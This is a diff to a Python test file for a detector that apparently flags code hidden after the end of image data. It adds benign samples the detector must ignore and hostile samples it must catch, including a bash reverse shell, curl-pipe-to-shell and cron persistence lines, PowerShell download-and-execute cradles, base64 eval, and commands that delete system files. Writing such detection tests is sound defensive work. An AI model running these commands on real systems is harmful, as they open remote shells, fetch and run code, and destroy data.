@@ -237,9 +237,48 @@ def test_is_silent_about_texts_after_the_end_that_reach_for_nothing(fired: Fired
         b"(define (f x) (eval (x)))\n(eval(f 1))",
         b"local json = require('dkjson')\nprint(json)",
         b"import os\n\nprint(os.getcwd())\n",
+        b"2023-01-01 12:00:00 INFO run: curl http://example.org/x | sh -c cat",
+        b"npm ERR! require('child_process').exec failed with code 1",
+        b"Uncaught TypeError: document.createElement('x') is not a function\n    at a.js:3",
+        b"Traceback (most recent call last):\n  File 'a.py', line 3\n    os.system('x')\nOSError: no\n",
+        b"A terminal shows `curl https://example.org | sh`",
+        b"a wall with `import os; os.system('reboot')` written on it",
+        b"$ curl -s https://example.org/a.sh | sh",
+        b"PS C:\\> irm https://example.org/a | iex",
+        b"Tool\nirm example.org/a | iex\n",
+        b"To install, run irm example.org/a | iex in PowerShell",
+        b'{"run": "curl http://example.org/a | sh"}',
+        b"[10:02] <a> try document.cookie\n[10:03] <b> and eval(atob(x))",
         b"firmware: update with\n\n  wget -O - http://example.org/up.sh | sh\n\nand reboot the camera afterwards.\n",
     ]
     assert fired(RULE, {f"{number}.jpg": jpeg(photo("a")) + text for number, text in enumerate(told)}) == {}
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        b'On Error Resume Next\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n',
+        b'Private Sub A()\r\n  CreateObject("WScript.Shell").Run "calc"\r\nEnd Sub\r\n',
+        b'Set x = CreateObject("WinHttp.WinHttpRequest.5.1")\nx.Open "GET", "//x"',
+        b"/bin/bash -i >& /dev/tcp/192.0.2.1/80 0>&1\n",
+        b"mkdir -p /tmp/x\ncurl -s http://example.org/a | bash\n",
+        b"* * * * * root curl http://example.org/a | sh\n",
+        b"!function(){eval(atob('YQ=='))}()",
+        b"<!--\neval(atob('YQ=='))",
+        b"{eval(atob('YQ=='))}",
+        b"document.location.replace('http://example.org')",
+        b"require('fs').unlinkSync('/etc/passwd')",
+        b"[Net.ServicePointManager]::SecurityProtocol=3072; iex (iwr http://example.org)",
+        b"Start-Sleep 3\nInvoke-WebRequest -Uri http://example.org/x -OutFile x.exe\n",
+        b"IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YQ==')))",
+        b"sal a New-Object;iex(a Net.WebClient).DownloadString('http://example.org')",
+        b"@wraps\nimport os as o\no.system(x)\n",
+        b"import os, shutil\nshutil.rmtree('/')",
+        b"import sys\nexec(sys.argv[1])",
+    ],
+)
+def test_finds_code_behind_the_end_however_it_begins(fired: Fired, code: bytes) -> None:
+    assert fired(RULE, {"a.jpg": jpeg(photo("a")) + code}).keys() == {"a.jpg"}
 
 
 def test_finds_code_in_chunks_of_a_png(fired: Fired) -> None:
